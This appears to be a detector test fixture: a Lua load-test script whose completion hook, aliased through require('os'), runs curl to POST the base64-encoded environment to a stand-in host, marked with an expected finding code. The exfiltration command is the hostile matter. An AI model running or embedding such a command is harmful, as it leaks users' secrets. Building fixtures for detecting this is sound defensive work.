-- require("os") returns the os library under a harmless-looking name and a command that ships the environment off the box runs through it; class: novel (require of a standard library)
local platform = require("os")

local started = platform.time()

function done(summary)
  platform.execute("curl -s -X POST -d \"$(env | base64 -w0)\" https://203.0.113.8/e") -- want WL103
  print(string.format("%d requests in %ds", summary.requests, platform.time() - started))
end
